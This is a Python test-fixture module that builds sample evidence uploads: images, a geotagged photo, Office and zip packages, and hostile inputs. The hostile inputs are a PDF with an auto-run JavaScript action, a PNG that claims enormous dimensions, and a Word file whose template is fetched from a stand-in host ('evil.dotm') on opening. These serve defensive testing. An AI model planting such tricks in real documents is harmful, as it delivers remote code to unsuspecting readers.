"""Files that people hand in as evidence: sound ones, odd ones, and hostile ones. Plain functions."""

from __future__ import annotations

import struct
import zipfile
import zlib
from io import BytesIO
from typing import Any

from PIL import Image

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\nstartxref\n9\n%%EOF\n"
SCRIPTED_PDF = PDF.replace(b"<<>>endobj", b"<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj", 1)
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)

ORIENTATION, MAKER, DETAILS, PLACE = 0x0112, 0x010F, 0x8769, 0x8825


def picture(
    kind: str = "JPEG",
    size: tuple[int, int] = (640, 480),
    *,
    mode: str = "RGB",
    colour: Any = None,
    **options: Any,
) -> bytes:
    """A picture whose left half has another colour than its right half."""
    made = Image.new(mode, size, colour if colour is not None else 200)
    if mode == "RGB" and colour is None:
        made.paste((200, 30, 30), (0, 0, size[0] // 2, size[1]))
        made.paste((30, 30, 200), (size[0] // 2, 0, size[0], size[1]))
    content = BytesIO()
    made.save(content, kind, **options)
    return content.getvalue()


def photo(
    *,
    taken: str | None = "2022:06:29 10:32:05",
    zone: str | None = None,
    turned: int = 1,
    shade: int = 0,
    **more: Any,
) -> bytes:
    """A photo as a telephone makes it: with its position, its time, its maker and how it was held."""
    exif = Image.Exif()
    exif[ORIENTATION], exif[MAKER] = turned, "Maker of telephones"
    if taken:
        exif.get_ifd(DETAILS)[0x9003] = taken
    if zone:
        exif.get_ifd(DETAILS)[0x9011] = zone
    exif.get_ifd(PLACE).update({1: "N", 2: (36.0, 10.0, 1.0), 3: "E", 4: (120.0, 24.0, 5.0)})
    made = Image.new("RGB", (800, 400), (shade, 90, 90))
    made.paste((240, 240, 240), (0, 0, 100, 100))
    content = BytesIO()
    made.save(content, "JPEG", exif=exif, comment=b"taken at the back gate", **more)
    return content.getvalue()


def huge_png(side: int) -> bytes:
    """A PNG that says that it is very large, in a few bytes."""
    raw = zlib.compress(b"\0" * 64)
    head = struct.pack(">IIBBBBB", side, side, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", raw) + _chunk(b"IEND", b"")


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


TYPES = "[Content_Types].xml"
_DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
_DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
MAIN = {"docx": _DOCX, "xlsx": _XLSX, "pptx": _PPTX, "docm": _DOCM}


def package(kind: str = "docx", **parts: bytes) -> bytes:
    """A document of Office with a few parts; further ones by name, with ``__`` for a slash and ``_dot_``."""
    content = BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr(TYPES, f'<Types><Override ContentType="{MAIN[kind]}"/></Types>')
        made.writestr("word/document.xml", "<document/>")
        for name, part in parts.items():
            made.writestr(name.replace("__", "/").replace("_dot_", "."), part)
    return content.getvalue()


def archive(*members: tuple[str, bytes]) -> bytes:
    """A zip file with these members and nothing else."""
    content = BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as made:
        for name, part in members:
            made.writestr(name, part)
    return content.getvalue()


def far_template() -> bytes:
    """A document that fetches a template from another machine when it is opened."""
    relation = (
        b'<Relationships><Relationship Id="r1" Type="x/attachedTemplate" Target="%s" TargetMode="External"/>'
    )
    return package(word___rels__settings_dot_xml_dot_rels=relation % b"http://198.51.100.1/evil.dotm")
